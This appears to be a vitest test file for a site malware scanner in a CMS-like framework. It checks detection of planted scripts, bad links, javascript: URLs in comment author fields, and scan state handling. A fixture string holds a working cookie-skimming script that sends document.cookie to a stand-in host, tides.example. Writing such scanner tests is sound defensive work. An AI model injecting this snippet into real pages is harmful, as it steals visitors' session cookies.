import { contentTables } from "@waymark/content";
import { bind, defineModule } from "@waymark/core";
import { describe, expect, test } from "vitest";
import { testStorages } from "waymark/testing";
import { base, startSite } from "./site.ts";

const skimmer = `<p>Fog</p><script>new Image().src="//tides.example/?"+document.cookie</script>`;

describe.each(await testStorages())("a scan on %s", (_, storage) => {
  test("finds nothing on a clean site", async () => {
    await using site = await startSite({ storage: storage() });
    await site.admin.post("/core/v2/posts", { title: "Fog", content: "<p>Until ten.</p>" });
    expect(await site.scan()).toEqual([]);
    const { running, progress, "last-scan-time": time } = await site.list();
    expect([running, progress, time]).toEqual([false, 1, "1768496400.000"]);
  });

  test("finds the script that somebody has planted in an item", async () => {
    await using site = await startSite({ storage: storage() });
    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    await site.scan();
    expect(await site.rules()).toEqual([
      [`post ${body.id}`, "content_obfuscated", "cookie-out", 100],
      [`post ${body.id}`, "content_script", "script", 50],
    ]);
    const [issue] = await site.issues();
    expect(issue).toMatchObject({
      shortMsg: "A script in “Fog” sends cookies of visitors away.",
      data: { stage: "content", evidence: expect.stringContaining("tides.example") },
    });
    expect(issue?.longMsg).not.toContain("<script");
  });

  test("an issue keeps its number, and is gone when what it was about is", async () => {
    await using site = await startSite({ storage: storage() });
    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    const first = await site.scan();
    expect(await site.scan()).toEqual(first);
    await site.admin.edit(`/core/v2/posts/${body.id}`, { content: "<p>Fog</p>" });
    expect(await site.scan()).toEqual([]);
  });

  test("what is ignored stays so, for ever or until it changes", async () => {
    await using site = await startSite({ storage: storage() });
    const { body } = await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    const [hit, script] = await site.scan();
    expect((await site.change(hit?.id ?? 0, "ignoreP")).body).toEqual({ success: true });
    await site.change(script?.id ?? 0, "ignoreC");
    expect(await site.scan()).toEqual([]);
    expect((await site.list()).counts).toEqual({ new: 0, ignored: 2 });
    await site.admin.edit(`/core/v2/posts/${body.id}`, { content: `<p>!</p>${skimmer}` });
    expect((await site.scan()).map(({ id }) => id)).toEqual([script?.id]);
    await site.change(hit?.id ?? 0, "new");
    expect((await site.list()).counts).toEqual({ new: 2, ignored: 0 });
    await site.change(hit?.id ?? 0, "delete");
    expect(await site.issues()).toHaveLength(1);
  });

  test("one scan runs at a time, and can be stopped", async () => {
    await using site = await startSite({ storage: storage() });
    await site.admin.post("/core/v2/posts", { title: "Fog", content: skimmer });
    const start = () => site.admin.post(`${base}/scan`);
    const both = await Promise.all([start(), start()]);
    expect(both.map(({ status }) => status).toSorted()).toEqual([200, 409]);
    expect((await site.list()).running).toBe(true);
    expect((await site.admin.remove(`${base}/scan`)).body).toEqual({ success: true });
    expect((await site.admin.remove(`${base}/scan`)).body).toEqual({ success: true });
    await site.site.runJobs();
    expect(await site.list()).toMatchObject({
      running: false,
      progress: 0,
      "last-scan-time": false,
    });
    expect(await site.scan()).toHaveLength(2);
  });

  test("settings, terms, comments and users are looked through", async () => {
    await using site = await startSite({
      storage: storage(),
      options: { badHosts: ["bad.example"] },
    });
    const plant = `<a href="https://www.bad.example/">tides</a>`;
    const post = await site.admin.post("/core/v2/posts", { title: "Fog", status: "publish" });
    await site.admin.post("/core/v2/comments", {
      post: post.body.id,
      content: plant,
      author_name: "Ana",
      author_email: "ana@quay.example",
    });
    await site.admin.post("/core/v2/categories", { name: "Tides", description: plant });
    const me = await site.admin.get("/core/v2/users/me");
    await site.admin.edit(`/core/v2/users/${me.body.id}`, { url: "https://bad.example/" });
    await site.scan();
    const found = (await site.rules()).map(([where, type, , severity]) => [
      String(where).split(" ")[0],
      type,
      severity,
    ]);
    expect(found.toSorted()).toEqual([
      ["comment", "comment_link", 25],
      ["term", "content_bad_url", 75],
      ["user", "content_bad_url", 75],
    ]);
  });

  test("a script in the address of who commented is found", async () => {
    const plant = bind({ tables: contentTables }).defineTask(
      "witness.plant",
      ({ transaction }, _: {}) =>
        transaction(({ db }) => db.comments.updateAll({}, { author_url: "javascript:alert(1)" })),
    );
    const witness = defineModule({ name: "witness", requires: ["content"], tasks: [plant] });
    await using site = await startSite({ storage: storage(), modules: [witness()] });
    const post = await site.admin.post("/core/v2/posts", { title: "Fog", status: "publish" });
    await site.admin.post("/core/v2/comments", { post: post.body.id, content: "Thick" });
    await site.site.run(plant, {});
    expect((await site.scan()).map(({ data }) => data["ruleId"])).toEqual(["script-url"]);
  });

  test("what one text leaves open hides nothing in the next", async () => {
    await using site = await startSite({ storage: storage() });
    await site.admin.post("/core/v2/posts", {
      title: "Fog <!-- <textarea>",
      content: skimmer,
    });
    expect(await site.scan()).toHaveLength(2);
  });
});
